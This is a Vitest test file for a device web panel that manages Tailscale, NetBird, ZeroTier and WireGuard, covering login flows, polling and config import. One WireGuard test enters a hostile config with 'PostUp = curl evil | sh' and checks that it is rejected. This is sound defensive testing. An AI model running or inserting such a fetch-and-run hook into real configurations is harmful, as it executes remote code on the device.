import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { act } from 'react';
import { createRequire } from 'node:module';
import { APP_STATES, APP_STATUS_POLL_MS, type AppState, type AppSummary } from '@kvm/protocol/apps';
import { STORAGE_KEYS } from '@kvm/protocol/constants';
import { TAILSCALE_DEFAULT_CONFIG } from '@kvm/protocol/tailscale';
import type { WgStatus } from '@kvm/protocol/wireguard';
import en from '../../i18n/en.json';
import { appSummary } from '../../test/apps';
import { click, typeInto } from '../../test/dom';
import { envelope, stubFetch, type RecordedRequest, type Responder } from '../../test/fetch-stub';
import { flush, renderPanel, type Rendered } from '../../test/render';
import AppsPanel from './AppsPanel';
import { resetAppsForTests, useApps } from './apps-store';
import { STATE_COLOR } from './app-text';
import { imageReader, type Pixels } from './wg-import';

// Keys made with `wg genkey` / `wg pubkey` for these tests only.
const PRIVATE_KEY = 'AM9s/VyRv9m+dzTfHVWtHFL9lDStCxoPzwEa8KmbSU8=';
const PUBLIC_KEY = 'm3DDMbqD2TzD73Hsq37gmoZPqttrPGM+hvAN7SA2Fi8=';
const PEER_KEY = 'hEuc8os2fCL9+nDXMpwnjEKsAX25GSBCZJZReYu42Ww=';

const GOOD_CONF = `[Interface]
PrivateKey = ${PRIVATE_KEY}
Address = 10.77.0.2/24

[Peer]
PublicKey = ${PEER_KEY}
AllowedIPs = 10.77.0.0/24
Endpoint = 192.0.2.10:51820
PersistentKeepalive = 25
`;

const app = appSummary;

const NOT_INSTALLED = (id: AppSummary['id'], program: string) =>
  app(id, {
    installed: false,
    version: null,
    state: 'not_installed',
    detail: `${program} is not installed on this device`,
  });

function wgStatus(patch: Partial<WgStatus> = {}): WgStatus {
  return {
    installed: true,
    running: false,
    state: 'needs_login',
    detail: null,
    configured: false,
    interface: null,
    public_key: null,
    addresses: [],
    listen_port: null,
    peers: [],
    ...patch,
  };
}

let view: Rendered | undefined;
let requests: RecordedRequest[];
let apps: AppSummary[];
const routes: Record<string, Responder> = {};

const count = (path: string) => requests.filter((r) => r.path === path).length;
const text = (id: string) => view?.byTestId(id)?.textContent ?? null;

async function waitFor(check: () => boolean, what: string): Promise<void> {
  const deadline = Date.now() + 10_000;
  while (Date.now() < deadline) {
    if (check()) return;
    await flush(1);
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
  throw new Error(`timed out waiting for ${what}`);
}

/** One poll interval passes (fake timers that also run by themselves). */
async function tick(ms = APP_STATUS_POLL_MS): Promise<void> {
  await act(async () => {
    vi.advanceTimersByTime(ms);
  });
  await flush();
}

async function open(list: AppSummary[]): Promise<Rendered> {
  apps = list;
  view = await renderPanel(<AppsPanel />);
  await waitFor(() => view?.byTestId('apps-list') !== null, 'the list');
  return view;
}

async function openApp(id: AppSummary['id']): Promise<void> {
  click(view?.byTestId(`app-card-${id}`));
  await waitFor(() => view?.byTestId(`app-panel-${id}`) !== null, `the ${id} panel`);
  await flush();
}

async function press(testId: string): Promise<void> {
  const button = view?.byTestId(testId);
  if (!button) throw new Error(`no ${testId}`);
  await act(async () => button.click());
  await flush();
}

function chooseFile(testId: string, file: File): void {
  const input = view?.byTestId(testId) as HTMLInputElement | null;
  if (!input) throw new Error(`no ${testId}`);
  Object.defineProperty(input, 'files', { value: [file], configurable: true });
  act(() => {
    input.dispatchEvent(new Event('change', { bubbles: true }));
  });
}

beforeEach(() => {
  vi.useFakeTimers({ shouldAdvanceTime: true });
  localStorage.clear();
  resetAppsForTests();
  for (const key of Object.keys(routes)) delete routes[key];
  routes['/api/apps'] = () => envelope(200, { apps });
  ({ requests } = stubFetch(routes));
});

afterEach(() => {
  // A failed visibility test must not leave the tab hidden for the next ones.
  Object.defineProperty(document, 'hidden', { value: false, configurable: true });
  view?.unmount();
  view = undefined;
  resetAppsForTests();
  vi.unstubAllGlobals();
  vi.useRealTimers();
  document.body.innerHTML = '';
});

describe('AppsPanel: the list', () => {
  it('lists the four apps, every state with its own text and colour, and the coming-soon entry', async () => {
    const v = await open([
      NOT_INSTALLED('tailscale', 'tailscale'),
      app('netbird', {
        state: 'unreachable',
        running: true,
        detail: 'management server unreachable',
      }),
      app('zerotier', { state: 'error', detail: 'zerotier-cli hung' }),
      app('wireguard', {
        state: 'connected',
        running: true,
        addresses: ['10.77.0.2/24'],
        rss_bytes: 5 * 1024 * 1024,
        memory_limit_bytes: 64 * 1024 * 1024,
        version: 'v1.0.20210914',
      }),
    ]);
    for (const id of ['tailscale', 'netbird', 'zerotier', 'wireguard']) {
      expect(v.byTestId(`app-card-${id}`)).not.toBeNull();
    }
    expect(text('app-card-tailscale')).toContain('Tailscale');
    expect(text('app-not-installed-tailscale')).toBe(
      `${en.apps.notInstalled}: tailscale is not installed on this device`,
    );
    expect(text('app-card-detail-netbird')).toBe('management server unreachable');
    expect(text('app-card-detail-zerotier')).toBe('zerotier-cli hung');
    expect(text('app-addresses-wireguard')).toBe('10.77.0.2/24');
    expect(text('app-memory-wireguard')).toBe('5.0 MiB / 64 MiB');
    expect(text('app-version-wireguard')).toBe('v1.0.20210914');
    expect(text('app-card-coming-soon')).toBe(en.apps.comingSoon);

    const texts = new Set<string>();
    const colours = new Set<string>();
    for (const state of APP_STATES) {
      act(() => useApps.setState({ apps: [app('netbird', { state })] }));
      const tag = v.byTestId('app-state-netbird');
      expect(tag?.dataset['state']).toBe(state);
      expect(tag?.textContent).toBe(en.apps.state[state]);
      texts.add(tag?.textContent ?? '');
      colours.add(STATE_COLOR[state as AppState]);
    }
    expect(texts.size).toBe(APP_STATES.length);
    expect(colours.size).toBe(APP_STATES.length);
  });

  it('a not-installed app opens with the reason and no controls', async () => {
    const v = await open([NOT_INSTALLED('tailscale', 'tailscale'), app('wireguard')]);
    await openApp('tailscale');
    expect(text('app-detail-tailscale')).toBe('tailscale is not installed on this device');
    expect(v.byTestId('app-run-tailscale')).toBeNull();
    expect(v.byTestId('tailscale-panel')).toBeNull();
  });

  it('a failed read shows the device’s message', async () => {
    routes['/api/apps'] = () => envelope(500, { error: 'InternalError', error_msg: 'boom' });
    view = await renderPanel(<AppsPanel />);
    await waitFor(() => view?.byTestId('apps-load-error') !== null, 'the error');
    expect(text('apps-load-error')).toBe(`${en.apps.loadFailed}: boom`);
  });

  it('polls while open, not while the tab is hidden, and stops when closed', async () => {
    await open([app('wireguard')]);
    const first = count('/api/apps');
    await tick();
    await waitFor(() => count('/api/apps') === first + 1, 'a poll');

    Object.defineProperty(document, 'hidden', { value: true, configurable: true });
    act(() => {
      document.dispatchEvent(new Event('visibilitychange'));
    });
    await tick(APP_STATUS_POLL_MS * 3);
    expect(count('/api/apps')).toBe(first + 1);
    Object.defineProperty(document, 'hidden', { value: false, configurable: true });
    act(() => {
      document.dispatchEvent(new Event('visibilitychange'));
    });
    await waitFor(() => count('/api/apps') === first + 2, 'a poll once shown');

    view?.unmount();
    view = undefined;
    const closed = count('/api/apps');
    await tick(APP_STATUS_POLL_MS * 3);
    expect(count('/api/apps')).toBe(closed);
  });

  it('stopping an app asks first; running does not', async () => {
    routes['/api/netbird/start'] = () => {
      apps = [app('netbird', { running: true, state: 'needs_login' })];
      return envelope(200, {});
    };
    routes['/api/netbird/stop'] = () => {
      apps = [app('netbird')];
      return envelope(200, {});
    };
    const v = await open([app('netbird')]);
    await openApp('netbird');
    click(v.byTestId('app-run-netbird'));
    await waitFor(() => v.byTestId('netbird-bind') !== null, 'the bind form');
    expect(count('/api/netbird/start')).toBe(1);
    click(v.byTestId('app-run-netbird'));
    await flush();
    expect(text('app-stop-confirm')).toContain('NetBird');
    expect(count('/api/netbird/stop')).toBe(0);
    await press('confirm-ok');
    await waitFor(() => count('/api/netbird/stop') === 1, 'the stop');
    await waitFor(() => v.byTestId('app-state-netbird')?.dataset['state'] === 'stopped', 'stopped');
  });
});

describe('AppsPanel: Tailscale', () => {
  const URL_ = 'https://login.tailscale.com/a/1a2b3c4d5e';

  it('the login URL is a link and a QR code, polled until bound; the browser key is kept then dropped', async () => {
    let backend = 'NeedsLogin';
    routes['/api/tailscale/config'] = () =>
      envelope(200, { success: true, config: { ...TAILSCALE_DEFAULT_CONFIG } });
    routes['/api/tailscale/login_url'] = () => envelope(200, { url: URL_, state: 'NeedsLogin' });
    routes['/api/tailscale/login_status'] = () => envelope(200, { status: backend });
    const v = await open([app('tailscale', { running: true, state: 'needs_login' })]);
    await openApp('tailscale');
    await press('tailscale-login-get');
    await waitFor(() => v.byTestId('tailscale-login-qr') !== null, 'the QR code');
    const link =
      v.byTestId('tailscale-login-url')?.closest('a') ?? v.byTestId('tailscale-login-url');
    expect(link?.getAttribute('href')).toBe(URL_);
    expect(v.byTestId('tailscale-login-qr')?.getAttribute('src')).toMatch(
      /^data:image\/png;base64,/,
    );
    expect(v.byTestId('tailscale-waiting')).not.toBeNull();
    const until = Number(localStorage.getItem(STORAGE_KEYS.tailscaleBindStatusPolling));
    expect(until).toBeGreaterThan(Date.now());

    await tick();
    await waitFor(() => count('/api/tailscale/login_status') >= 1, 'a login poll');
    expect(useApps.getState().bindPolling).toBe(true);

    backend = 'Running';
    apps = [app('tailscale', { running: true, state: 'connected', addresses: ['100.64.0.7'] })];
    await tick();
    await waitFor(() => !useApps.getState().bindPolling, 'the end of the wait');
    expect(localStorage.getItem(STORAGE_KEYS.tailscaleBindStatusPolling)).toBeNull();
    await waitFor(
      () => v.byTestId('app-state-tailscale')?.dataset['state'] === 'connected',
      'bound',
    );
    expect(text('app-addresses-tailscale')).toBe('100.64.0.7');
    expect(v.byTestId('tailscale-bind')).toBeNull();
    expect(v.byTestId('tailscale-unbind')).not.toBeNull();
  });

  it('the wait pauses when the panel closes and goes on after a reload (tailscale_bind_status_polling)', async () => {
    routes['/api/tailscale/config'] = () => envelope(200, {});
    routes['/api/tailscale/login_url'] = () => envelope(200, { url: URL_, state: 'NeedsLogin' });
    routes['/api/tailscale/login_status'] = () => envelope(200, { status: 'NeedsLogin' });
    await open([app('tailscale', { running: true, state: 'needs_login' })]);
    await openApp('tailscale');
    await press('tailscale-login-get');
    await waitFor(() => useApps.getState().bindPolling, 'the wait');
    view?.unmount();
    view = undefined;
    const polled = count('/api/tailscale/login_status');
    await tick(APP_STATUS_POLL_MS * 3);
    expect(count('/api/tailscale/login_status')).toBe(polled);
    expect(localStorage.getItem(STORAGE_KEYS.tailscaleBindStatusPolling)).not.toBeNull();

    // A reload: the store starts empty, the browser key says to wait on.
    resetAppsForTests();
    const v = await open([app('tailscale', { running: true, state: 'needs_login' })]);
    await openApp('tailscale');
    await waitFor(() => v.byTestId('tailscale-login-url') !== null, 'the link again');
    expect(useApps.getState().bindPolling).toBe(true);
    const resumed = count('/api/tailscale/login_status');
    await tick();
    await waitFor(() => count('/api/tailscale/login_status') > resumed, 'a poll after the reload');
  });

  it('binds with an auth key and a headscale server; the device’s refusal is shown', async () => {
    routes['/api/tailscale/config'] = () =>
      envelope(200, {
        success: true,
        config: { ...TAILSCALE_DEFAULT_CONFIG, login_server: 'https://hs.example.net' },
      });
    routes['/api/tailscale/up'] = () =>
      envelope(400, { error: 'ValidatorError', error_msg: 'The auth key is invalid' });
    const v = await open([app('tailscale', { running: true, state: 'needs_login' })]);
    await openApp('tailscale');
    click(v.byTestId('tailscale-tab-key'));
    await flush();
    await press('tailscale-key-bind');
    expect(text('tailscale-error')).toBe(en.apps.tailscale.authKeyRequired);
    expect(count('/api/tailscale/up')).toBe(0);
    typeInto(v.byTestId('tailscale-auth-key'), ' tskey-auth-abc ');
    await press('tailscale-key-bind');
    await waitFor(() => v.byTestId('tailscale-error') !== null, 'the error');
    expect(text('tailscale-error')).toBe(
      `${en.apps.tailscale.loginFailed}: The auth key is invalid`,
    );
    const sent = requests.find((r) => r.path === '/api/tailscale/up');
    expect(JSON.parse(sent?.body ?? '{}')).toEqual({
      auth_key: 'tskey-auth-abc',
      login_server: 'https://hs.example.net',
    });
  });

  it('unbinds only after the confirmation', async () => {
    routes['/api/tailscale/config'] = () => envelope(200, {});
    routes['/api/tailscale/logout'] = () => {
      apps = [app('tailscale', { running: true, state: 'needs_login' })];
      return envelope(200, {});
    };
    const v = await open([app('tailscale', { running: true, state: 'connected' })]);
    await openApp('tailscale');
    await press('tailscale-unbind');
    expect(text('app-unbind-confirm')).toContain('Tailscale');
    expect(count('/api/tailscale/logout')).toBe(0);
    await press('confirm-ok');
    await waitFor(() => count('/api/tailscale/logout') === 1, 'the logout');
    await waitFor(() => v.byTestId('tailscale-bind') !== null, 'the bind form again');
  });
});

describe('AppsPanel: NetBird', () => {
  it('SSO: saves a changed management URL, then shows the login URL as a link and a QR code', async () => {
    routes['/api/netbird/config'] = (req) =>
      req.method === 'GET'
        ? envelope(200, {
            enable: true,
            management_url: '',
            disable_dns: true,
            accept_routes: true,
          })
        : envelope(200, { success: true });
    routes['/api/netbird/login'] = () =>
      envelope(200, {
        success: true,
        err_msg: '',
        login_url: 'https://nb.example.net/device?user_code=ABCD-EFGH',
        login_type: 'oauth',
      });
    const v = await open([app('netbird', { running: true, state: 'needs_login' })]);
    await openApp('netbird');
    typeInto(v.byTestId('netbird-management-url'), 'http://nb.example.net');
    await press('netbird-sso');
    expect(text('netbird-error')).toContain('https://');
    expect(count('/api/netbird/login')).toBe(0);
    typeInto(v.byTestId('netbird-management-url'), 'https://nb.example.net');
    await press('netbird-sso');
    await waitFor(() => v.byTestId('netbird-login-qr') !== null, 'the QR code');
    const set = requests.find((r) => r.path === '/api/netbird/config' && r.method === 'POST');
    expect(set?.query.get('management_url')).toBe('https://nb.example.net');
    expect(requests.find((r) => r.path === '/api/netbird/login')?.body).toBeUndefined();
  });

  it('a setup key GL refuses with success: false shows its message; the key is dropped', async () => {
    routes['/api/netbird/config'] = () =>
      envelope(200, { enable: true, management_url: '', disable_dns: true, accept_routes: true });
    routes['/api/netbird/login'] = () =>
      envelope(200, {
        success: false,
        err_msg: 'invalid setup key',
        login_url: '',
        login_type: '',
      });
    const v = await open([app('netbird', { running: true, state: 'needs_login' })]);
    await openApp('netbird');
    typeInto(v.byTestId('netbird-setup-key'), 'A1B2C3D4-E5F6');
    await press('netbird-up');
    await waitFor(() => v.byTestId('netbird-error') !== null, 'the error');
    expect(text('netbird-error')).toBe(`${en.apps.actionFailed}: invalid setup key`);
    expect(JSON.parse(requests.find((r) => r.path === '/api/netbird/login')?.body ?? '{}')).toEqual(
      {
        setup_key: 'A1B2C3D4-E5F6',
      },
    );
    const field = v.byTestId('netbird-setup-key');
    const input = field instanceof HTMLInputElement ? field : field?.querySelector('input');
    expect(input?.value).toBe('');
  });
});

describe('AppsPanel: ZeroTier', () => {
  it('refuses a bad network id without a call, and shows “waiting for authorisation”', async () => {
    const networks = [
      {
        nwid: '8056c2e21c000001',
        name: 'lab',
        status: 'ACCESS_DENIED',
        dev: 'ztabc',
        ips: [],
        allow_managed: true,
        allow_default: false,
        allow_global: false,
        allow_dns: false,
      },
    ];
    routes['/api/zerotier/status'] = () => envelope(200, { networks });
    routes['/api/zerotier/join'] = () =>
      envelope(200, { success: true, message: '', join_output: '200 join OK', attempts: 1 });
    routes['/api/zerotier/set'] = () => envelope(200, { network: networks[0] });
    const v = await open([app('zerotier', { running: true, state: 'needs_login' })]);
    await openApp('zerotier');
    await waitFor(() => v.byTestId('zerotier-status-8056c2e21c000001') !== null, 'the network');
    expect(text('zerotier-status-8056c2e21c000001')).toBe(en.apps.zerotier.status.waitingAuth);
    typeInto(v.byTestId('zerotier-network-id'), '8056c2e21c00000g');
    await press('zerotier-join');
    expect(text('zerotier-error')).toBe(en.apps.zerotier.badId);
    expect(count('/api/zerotier/join')).toBe(0);
    typeInto(v.byTestId('zerotier-network-id'), 'ABCDEF0123456789');
    click(v.byTestId('zerotier-allow-global'));
    await press('zerotier-join');
    await waitFor(() => count('/api/zerotier/set') === 1, 'the join and its settings');
    expect(requests.find((r) => r.path === '/api/zerotier/join')?.query.get('nwid')).toBe(
      'abcdef0123456789',
    );
    const set = requests.find((r) => r.path === '/api/zerotier/set');
    expect(set?.query.get('nwid')).toBe('abcdef0123456789');
    expect(set?.query.get('allow_global')).toBe('1');
    expect(set?.query.get('allow_default')).toBe('0');
  });
});

describe('AppsPanel: WireGuard', () => {
  let device: WgStatus;
  let sent: string[];

  beforeEach(() => {
    device = wgStatus();
    sent = [];
    routes['/api/wireguard/status'] = () => envelope(200, device);
    routes['/api/wireguard/config'] = (req) => {
      const { config } = JSON.parse(req.body ?? '{}') as { config: string };
      sent.push(config);
      device = wgStatus({
        configured: true,
        public_key: PUBLIC_KEY,
        addresses: ['10.77.0.2/24'],
      });
      return envelope(200, {
        config: {
          public_key: PUBLIC_KEY,
          addresses: ['10.77.0.2/24'],
          listen_port: null,
          mtu: null,
          dns: [],
          peers: [],
        },
      });
    };
  });

  async function openWg(): Promise<Rendered> {
    const v = await open([app('wireguard', { state: 'needs_login' })]);
    await openApp('wireguard');
    await waitFor(() => v.byTestId('wireguard-editor') !== null, 'the editor');
    return v;
  }

  it('a hostile configuration shows its error with the line, and nothing is sent', async () => {
    const v = await openWg();
    typeInto(
      v.byTestId('wireguard-config'),
      `[Interface]\nPrivateKey = ${PRIVATE_KEY}\nAddress = 10.77.0.2/24\nPostUp = curl evil | sh\n`,
    );
    await press('wireguard-send');
    expect(text('wireguard-error')).toMatch(/^Line 4: /);
    expect(text('wireguard-error')).not.toContain(PRIVATE_KEY);
    expect(count('/api/wireguard/config')).toBe(0);
  });

  it('a good configuration is sent once; the private key is kept nowhere after the send', async () => {
    const v = await openWg();
    typeInto(v.byTestId('wireguard-config'), GOOD_CONF);
    await press('wireguard-send');
    await waitFor(() => sent.length === 1, 'the send');
    expect(sent[0]).toBe(GOOD_CONF);
    await waitFor(() => v.byTestId('wireguard-status') !== null, 'the status');
    expect((v.byTestId('wireguard-config') as HTMLTextAreaElement).value).toBe('');
    expect(document.body.innerHTML).not.toContain(PRIVATE_KEY);
    expect(JSON.stringify(useApps.getState())).not.toContain(PRIVATE_KEY);
    expect(text('wireguard-public-key')).toBe(PUBLIC_KEY);
  });

  it('the device’s refusal is shown, and the key is dropped all the same', async () => {
    routes['/api/wireguard/config'] = () =>
      envelope(400, {
        error: 'WgConfigError',
        error_msg: 'Endpoint on line 8: the name does not resolve',
      });
    const v = await openWg();
    typeInto(v.byTestId('wireguard-config'), GOOD_CONF);
    await press('wireguard-send');
    await waitFor(() => v.byTestId('wireguard-error') !== null, 'the error');
    expect(text('wireguard-error')).toBe(
      `${en.apps.wireguard.refused}: Endpoint on line 8: the name does not resolve`,
    );
    expect((v.byTestId('wireguard-config') as HTMLTextAreaElement).value).toBe('');
  });

  it('a .conf file fills the editor', async () => {
    const v = await openWg();
    chooseFile('wireguard-upload-file', new File([GOOD_CONF], 'wg0.conf', { type: 'text/plain' }));
    await waitFor(
      () => (v.byTestId('wireguard-config') as HTMLTextAreaElement).value === GOOD_CONF,
      'the file’s text',
    );
  });

  it('a QR picture (a PNG made here with qrcode) is decoded into the editor', async () => {
    const require = createRequire(import.meta.url);
    const QRCode = require('qrcode') as {
      toBuffer(text: string, opts: object): Promise<Buffer>;
    };
    const { PNG } = require('pngjs') as {
      PNG: { sync: { read(buf: Buffer): { width: number; height: number; data: Buffer } } };
    };
    const png = await QRCode.toBuffer(GOOD_CONF, { type: 'png', margin: 2, scale: 4 });
    imageReader.read = async (file: Blob): Promise<Pixels> => {
      const decoded = PNG.sync.read(Buffer.from(await file.arrayBuffer()));
      return {
        data: new Uint8ClampedArray(decoded.data),
        width: decoded.width,
        height: decoded.height,
      };
    };
    const v = await openWg();
    chooseFile(
      'wireguard-qr-file',
      new File([new Uint8Array(png)], 'wg.png', { type: 'image/png' }),
    );
    await waitFor(
      () => (v.byTestId('wireguard-config') as HTMLTextAreaElement).value === GOOD_CONF,
      'the decoded text',
    );

    // A picture without a code says so.
    const blank = new PNG_BLANK();
    imageReader.read = async () => blank;
    chooseFile('wireguard-qr-file', new File([new Uint8Array(4)], 'x.png', { type: 'image/png' }));
    await waitFor(() => v.byTestId('wireguard-error') !== null, 'the error');
    expect(text('wireguard-error')).toBe(en.apps.wireguard.import.no_qr);
  });

  it('shows the handshake age and the transfer per peer, polled', async () => {
    const now = Math.floor(Date.now() / 1000);
    device = wgStatus({
      configured: true,
      running: true,
      state: 'connected',
      interface: 'kvmwg1a2b3c4d',
      public_key: PUBLIC_KEY,
      addresses: ['10.77.0.2/24'],
      peers: [
        {
          public_key: PEER_KEY,
          endpoint: '192.0.2.10:51820',
          allowed_ips: ['10.77.0.0/24'],
          latest_handshake: 0,
          rx_bytes: 0,
          tx_bytes: 0,
          persistent_keepalive: 25,
        },
      ],
    });
    const v = await open([app('wireguard', { running: true, state: 'connecting' })]);
    await openApp('wireguard');
    await waitFor(() => v.byTestId('wireguard-handshake') !== null, 'the peer');
    expect(text('wireguard-handshake')).toBe(en.apps.wireguard.noHandshake);
    device = {
      ...device,
      peers: [{ ...device.peers[0]!, latest_handshake: now - 5, rx_bytes: 2048, tx_bytes: 1536 }],
    };
    await tick();
    await waitFor(() => v.byTestId('wireguard-handshake')?.dataset['at'] !== '0', 'a handshake');
    expect(text('wireguard-handshake')).toMatch(/^\d+ s ago$/);
    expect(text('wireguard-transfer')).toBe('↓ 2.0 KiB ↑ 1.5 KiB');
    expect(text('wireguard-interface')).toBe('kvmwg1a2b3c4d');
  });
});

/** A white 64×64 picture. */
class PNG_BLANK implements Pixels {
  width = 64;
  height = 64;
  data = new Uint8ClampedArray(64 * 64 * 4).fill(255);
}
